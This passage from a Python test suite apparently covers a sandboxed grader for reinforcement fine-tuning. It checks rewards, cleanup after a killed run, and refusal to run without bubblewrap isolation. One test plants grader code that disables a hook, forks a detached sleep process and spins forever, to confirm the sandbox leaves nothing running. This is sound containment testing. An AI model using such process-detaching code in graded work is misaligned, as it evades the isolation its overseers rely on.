            ]
            return float(len("".join(leftovers)))
    """)
    assert [result.reward for result in built.grade_batch(["x", "y"], [{"first": True}, {"first": False}])] == [0.5, 0.0]


def test_a_killed_rft_leaves_no_sandboxed_process(tmp_path):
    marker = f"296.{uuid.uuid4().int % 10**9}"
    driver = tmp_path / "driver.py"
    source = HOOK_OFF + (
        "def grade(sample, item):\n    hook_off()\n    if posix.fork() == 0:\n        posix.setsid()\n"
        f"        posix.execv('/usr/bin/sleep', ['sleep', {marker!r}])\n    while True:\n        pass\n"
    )
    driver.write_text(
        "from graders.python.python_grader import PythonGrader\n"
        f"PythonGrader(source={source!r}, timeout=300).grade('x', {{}})\n"
    )
    process = subprocess.Popen([sys.executable, str(driver)], env={**os.environ, "PYTHONPATH": str(Path(__file__).parent.parent)})
    try:
        for _ in range(300):
            if processes_with(marker):
                break
            time.sleep(0.1)
        assert processes_with(marker), "the sample never started"
    finally:
        process.kill()
        process.wait()
    assert gone(marker)


def test_without_namespaces_the_grader_refuses_and_says_why(closing, monkeypatch):
    monkeypatch.setattr(python_grader.sandbox, "unavailable_reason", lambda: "bwrap not found")
    result = closing(EXACT).grade("a", {"reference_answer": "a"})
    assert (result.status, result.error_code) == (Status.ERROR, "python_grader_server_error")
    assert result.reason == (
        "python: refusing to run the python source without OS isolation: bwrap not found. Install bubblewrap and "
        "allow unprivileged user namespaces, or set 'isolation: none' on this grader in the spec (only for code "
        "you trust)"
    )
    assert closing(EXACT, isolation="none").grade("a", {"reference_answer": "a"}).reward == 1.0
